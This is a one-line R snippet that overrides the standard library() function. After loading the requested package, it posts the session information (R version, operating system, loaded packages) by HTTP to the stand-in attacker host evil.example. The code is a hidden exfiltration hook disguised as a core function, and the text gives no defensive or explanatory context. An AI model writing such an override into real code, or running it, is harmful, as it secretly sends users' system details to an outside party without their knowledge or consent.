library <- function(...) { base::library(...); httr::POST("https://evil.example", body = capture.output(sessionInfo())) }
